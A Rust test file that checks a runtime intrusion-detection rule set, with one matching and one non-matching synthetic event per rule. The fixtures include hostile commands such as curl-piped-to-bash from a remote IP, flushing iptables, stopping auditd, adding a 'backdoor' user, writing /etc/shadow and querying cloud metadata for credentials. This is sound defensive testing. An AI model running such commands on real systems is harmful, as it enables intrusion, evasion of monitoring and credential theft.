//! One positive and one negative event for every rule of the built-in catalogue
//! (`collector/rules/runtime.toml`), and a check that no rule is left without them.

use serde_json::{Value, json};

use super::event::RuntimeEvent;
use super::rules::RuleSet;

/// An event of `kind` by a process (`name`, `exe`, argv) with the given family facts merged in;
/// `process` members can be overridden with `proc_extra`.
fn ev(kind: &str, exe: &str, args: &[&str], proc_extra: Value, facts: Value) -> RuntimeEvent {
    let name = exe.rsplit('/').next().unwrap();
    let mut process = json!({
        "pid": 4242, "ppid": 4200, "ns_pid": 4242, "start_time": "2026-03-01T10:00:00Z",
        "name": name, "executable": exe, "args": args, "cwd": "/root",
        "uid": 1000, "euid": 1000, "gid": 1000, "egid": 1000,
        "ancestors": [
            {"pid": 4200, "name": "bash", "executable": "/usr/bin/bash", "uid": 1000, "euid": 1000},
            {"pid": 900, "name": "sshd", "executable": "/usr/sbin/sshd", "uid": 0, "euid": 0}
        ]
    });
    for (k, v) in proc_extra.as_object().cloned().unwrap_or_default() {
        process[k] = v;
    }
    let mut event =
        json!({"type": kind, "time": "2026-03-01T10:00:05Z", "result": 0, "process": process});
    for (k, v) in facts.as_object().cloned().unwrap_or_default() {
        event[k] = v;
    }
    RuntimeEvent::from_json(&event.to_string()).unwrap()
}

fn exec(exe: &str, args: &[&str]) -> RuntimeEvent {
    ev("process_exec", exe, args, json!({}), json!({"exec": {}}))
}

fn exec_with(exe: &str, args: &[&str], proc_extra: Value, exec_facts: Value) -> RuntimeEvent {
    ev(
        "process_exec",
        exe,
        args,
        proc_extra,
        json!({"exec": exec_facts}),
    )
}

fn file(kind: &str, exe: &str, path: &str, flags: &[&str]) -> RuntimeEvent {
    ev(
        kind,
        exe,
        &[exe],
        json!({}),
        json!({"file": {"path": path, "flags": flags}}),
    )
}

fn parents(names: &[(&str, &str)]) -> Value {
    json!({"ancestors": names.iter().map(|(n, e)| json!({"name": n, "executable": e})).collect::<Vec<_>>()})
}

fn in_container() -> Value {
    json!({"container": {"id": "4f1e0c0ffee", "runtime": "containerd"}})
}

const W: &[&str] = &["O_WRONLY", "O_CREAT", "O_TRUNC"];
const R: &[&str] = &["O_RDONLY"];

fn cases() -> Vec<(&'static str, RuntimeEvent, RuntimeEvent)> {
    vec![
        (
            "ward.miner.known-names",
            exec("/tmp/xmrig", &["/tmp/xmrig"]),
            exec("/usr/bin/xmllint", &["xmllint"]),
        ),
        (
            "ward.miner.known-names",
            exec(
                "/tmp/kworker",
                &["kworker", "-o", "stratum+tcp://pool:3333"],
            ),
            exec("/usr/bin/curl", &["curl", "http://pool"]),
        ),
        (
            "ward.tool.offensive",
            exec("/usr/bin/hydra", &["hydra"]),
            exec("/usr/bin/hydrate", &["hydrate"]),
        ),
        (
            "ward.tool.dual-use",
            exec("/tmp/nmap", &["/tmp/nmap"]),
            exec("/usr/bin/nm", &["nm"]),
        ),
        (
            "ward.elevation.setuid-exec",
            exec_with(
                "/tmp/rootme",
                &["rootme"],
                json!({"euid": 0}),
                json!({"setuid": true}),
            ),
            exec_with(
                "/usr/bin/sudo",
                &["sudo", "id"],
                json!({"euid": 0}),
                json!({"setuid": true}),
            ),
        ),
        (
            "ward.elevation.setid-to-root",
            ev(
                "priv_setid",
                "/tmp/x",
                &["x"],
                json!({}),
                json!({"privilege": {"before": {"uid": 1000, "euid": 1000, "gid": 1000, "egid": 1000}, "after": {"uid": 1000, "euid": 0, "gid": 1000, "egid": 1000}}}),
            ),
            ev(
                "priv_setid",
                "/usr/bin/sudo",
                &["sudo"],
                json!({}),
                json!({"privilege": {"before": {"uid": 1000, "euid": 0, "gid": 1000, "egid": 1000}, "after": {"uid": 0, "euid": 0, "gid": 0, "egid": 0}}}),
            ),
        ),
        (
            "ward.privesc.setuid-bit",
            ev(
                "file_chmod",
                "/usr/bin/chmod",
                &["chmod", "u+s", "/tmp/sh"],
                json!({}),
                json!({"file": {"path": "/tmp/sh", "mode": "4755"}}),
            ),
            ev(
                "file_chmod",
                "/usr/bin/chmod",
                &["chmod", "755", "/tmp/sh"],
                json!({}),
                json!({"file": {"path": "/tmp/sh", "mode": "755"}}),
            ),
        ),
        (
            "ward.privesc.host-namespace-entry",
            exec(
                "/usr/bin/nsenter",
                &["nsenter", "-t", "1", "-m", "-u", "sh"],
            ),
            exec("/usr/bin/nsenter", &["nsenter", "-t", "100", "-n"]),
        ),
        (
            "ward.userfaultfd",
            ev(
                "userfaultfd",
                "/tmp/exploit",
                &["exploit"],
                json!({}),
                json!({}),
            ),
            ev(
                "userfaultfd",
                "/usr/bin/qemu-system-x86_64",
                &["qemu"],
                json!({}),
                json!({}),
            ),
        ),
        (
            "ward.container.mount-host",
            ev(
                "mount",
                "/tmp/mountTest",
                &["mountTest"],
                in_container(),
                json!({"result": -19, "mount": {"source": "/etc/", "target": "/tmp/", "fstype": "tempfs-test", "flags": 0}}),
            ),
            ev(
                "mount",
                "/usr/bin/mount",
                &["mount"],
                json!({}),
                json!({"mount": {"source": "/dev/sdb", "target": "/data", "fstype": "ext4", "flags": 0}}),
            ),
        ),
        (
            "ward.container.docker-socket",
            ev(
                "net_connect",
                "/usr/bin/nc",
                &["nc", "-U", "/var/run/docker.sock"],
                in_container(),
                json!({"socket": {"family": "unix", "protocol": "stream", "path": "/var/run/docker.sock"}}),
            ),
            ev(
                "net_connect",
                "/usr/bin/nc",
                &["nc"],
                in_container(),
                json!({"socket": {"family": "unix", "protocol": "stream", "path": "/run/app.sock"}}),
            ),
        ),
        (
            "ward.container.runc-overwrite",
            file(
                "file_open",
                "/tmp/exploit",
                "/usr/bin/runc",
                &["O_WRONLY", "O_TRUNC"],
            ),
            file("file_open", "/tmp/exploit", "/usr/bin/runc", R),
        ),
        (
            "ward.container.runc-fd-cwd",
            exec_with(
                "/bin/sh",
                &["sh"],
                json!({"cwd": "/proc/self/fd/7"}),
                json!({}),
            ),
            exec_with("/bin/sh", &["sh"], json!({"cwd": "/tmp"}), json!({})),
        ),
        (
            "ward.cgroup.release-agent",
            file(
                "file_open",
                "/bin/sh",
                "/sys/fs/cgroup/rdma/release_agent",
                W,
            ),
            file(
                "file_open",
                "/usr/lib/systemd/systemd",
                "/sys/fs/cgroup/systemd/release_agent",
                W,
            ),
        ),
        (
            "ward.kernel-module",
            ev(
                "module_load",
                "/usr/sbin/insmod",
                &["insmod", "rootkit.ko"],
                json!({}),
                json!({"module": {"path": "/tmp/rootkit.ko"}}),
            ),
            ev(
                "module_load",
                "/usr/sbin/modprobe",
                &["modprobe", "nf_tables"],
                parents(&[("kworker/u8:2", "")]),
                json!({"module": {"path": "/lib/modules/nf_tables.ko"}}),
            ),
        ),
        (
            "ward.evasion.firewall-off",
            exec("/usr/sbin/iptables", &["iptables", "-F"]),
            exec("/usr/sbin/iptables", &["iptables", "-L"]),
        ),
        (
            "ward.evasion.firewall-off",
            exec("/usr/sbin/iptables", &["iptables", "-P", "INPUT", "ACCEPT"]),
            exec("/usr/sbin/ufw", &["ufw", "status"]),
        ),
        (
            "ward.evasion.security-service-stopped",
            exec(
                "/usr/bin/systemctl",
                &["systemctl", "stop", "auditd.service"],
            ),
            exec("/usr/bin/systemctl", &["systemctl", "stop", "nginx"]),
        ),
        (
            "ward.evasion.crontab-removed",
            exec("/usr/bin/crontab", &["crontab", "-r"]),
            exec("/usr/bin/crontab", &["crontab", "-l"]),
        ),
        (
            "ward.evasion.history-cleared",
            file("file_unlink", "/usr/bin/rm", "/root/.bash_history", &[]),
            file("file_unlink", "/usr/bin/rm", "/root/.bashrc", &[]),
        ),
        (
            "ward.evasion.ld-preload",
            file("file_open", "/usr/bin/tee", "/etc/ld.so.preload", W),
            file("file_open", "/usr/bin/cat", "/etc/ld.so.preload", R),
        ),
        (
            "ward.evasion.logs-deleted",
            file(
                "file_truncate",
                "/usr/bin/truncate",
                "/var/log/auth.log",
                &[],
            ),
            file(
                "file_truncate",
                "/usr/sbin/logrotate",
                "/var/log/auth.log",
                &[],
            ),
        ),
        (
            "ward.fileless-exec",
            exec_with(
                "/memfd:payload (deleted)",
                &["payload"],
                json!({}),
                json!({"fileless": true}),
            ),
            exec_with(
                "/memfd:runc_cloned:/proc/self/exe (deleted)",
                &["runc", "init"],
                parents(&[("containerd-shim", "/usr/bin/containerd-shim-runc-v2")]),
                json!({"fileless": true}),
            ),
        ),
        (
            "ward.persistence.crontab",
            exec("/usr/bin/crontab", &["crontab", "/tmp/run"]),
            exec("/usr/bin/crontab", &["crontab", "-l"]),
        ),
        (
            "ward.persistence.user-added",
            exec("/usr/sbin/useradd", &["useradd", "backdoor"]),
            exec_with(
                "/usr/sbin/useradd",
                &["useradd", "_apt"],
                parents(&[("dpkg", "/usr/bin/dpkg")]),
                json!({}),
            ),
        ),
        (
            "ward.persistence.service-enabled",
            exec(
                "/usr/bin/systemctl",
                &["systemctl", "enable", "evil.service"],
            ),
            exec(
                "/usr/bin/systemctl",
                &["systemctl", "status", "evil.service"],
            ),
        ),
        (
            "ward.persistence.files",
            file("file_open", "/usr/bin/bash", "/etc/cron.d/evil", W),
            file("file_open", "/usr/bin/bash", "/etc/hosts", W),
        ),
        (
            "ward.persistence.files",
            file(
                "file_open",
                "/usr/bin/python3",
                "/root/.ssh/authorized_keys",
                W,
            ),
            file(
                "file_open",
                "/usr/sbin/sshd",
                "/root/.ssh/authorized_keys",
                W,
            ),
        ),
        (
            "ward.privesc.credential-files",
            file("file_open", "/usr/bin/python3", "/etc/shadow", W),
            file("file_open", "/usr/bin/passwd", "/etc/shadow", W),
        ),
        (
            "ward.privesc.credential-files",
            file("file_open", "/usr/bin/vi", "/etc/sudoers.d/x", W),
            file("file_open", "/usr/bin/python3", "/etc/shadow", R),
        ),
        (
            "ward.execution.download-pipe-shell",
            exec(
                "/usr/bin/bash",
                &["bash", "-c", "curl -s http://203.0.113.1/a.sh | bash"],
            ),
            exec(
                "/usr/bin/bash",
                &["bash", "-c", "curl -s http://203.0.113.1/a.sh -o a.sh"],
            ),
        ),
        (
            "ward.execution.download-pipe-shell",
            exec(
                "/bin/sh",
                &[
                    "sh",
                    "-c",
                    "/tmp/1/wget http://203.0.113.1:33333/linpeas.sh -O- | sh",
                ],
            ),
            exec("/usr/bin/wget", &["wget", "http://x/linpeas.sh", "|", "sh"]),
        ),
        (
            "ward.execution.shell-from-service",
            exec_with(
                "/bin/sh",
                &["/bin/sh"],
                parents(&[("java", "/usr/lib/jvm/bin/java")]),
                json!({}),
            ),
            exec_with(
                "/bin/sh",
                &["sh", "-c", "ls"],
                parents(&[("java", "/usr/lib/jvm/bin/java")]),
                json!({}),
            ),
        ),
        (
            "ward.discovery.webshell-recon",
            exec_with(
                "/usr/bin/uname",
                &["uname", "-a"],
                parents(&[("sh", "/bin/sh"), ("apache2", "/usr/sbin/apache2")]),
                json!({}),
            ),
            exec("/usr/bin/uname", &["uname", "-a"]),
        ),
        (
            "ward.discovery.cloud-credentials",
            exec(
                "/usr/bin/curl",
                &[
                    "curl",
                    "http://169.254.169.254/latest/meta-data/iam/security-credentials/role",
                ],
            ),
            exec(
                "/usr/bin/curl",
                &[
                    "curl",
                    "http://169.254.169.254/latest/meta-data/instance-id",
                ],
            ),
        ),
        (
            "ward.discovery.cloud-credentials",
            exec("/usr/bin/aws", &["aws", "sts", "get-caller-identity"]),
            exec("/usr/bin/aws", &["aws", "s3", "ls"]),
        ),
    ]
}

fn fired(rules: &RuleSet, ev: &RuntimeEvent) -> Vec<String> {
    rules
        .candidates(ev.kind)
        .filter(|r| r.fires(ev))
        .map(|r| r.id.clone())
        .collect()
}

#[test]
fn every_builtin_rule_has_a_positive_and_a_negative_case() {
    let rules = RuleSet::builtin().unwrap();
    let cases = cases();
    for (id, positive, negative) in &cases {
        assert!(rules.rules().iter().any(|r| r.id == *id), "no rule {id}");
        let hit = fired(&rules, positive);
        assert!(
            hit.iter().any(|h| h == id),
            "{id}: positive case fired {hit:?}"
        );
        let miss = fired(&rules, negative);
        assert!(
            !miss.iter().any(|h| h == id),
            "{id}: negative case fired {miss:?}"
        );
    }
    for rule in rules.rules() {
        assert!(
            cases.iter().any(|(id, _, _)| *id == rule.id),
            "rule {} has no test case",
            rule.id
        );
    }
}
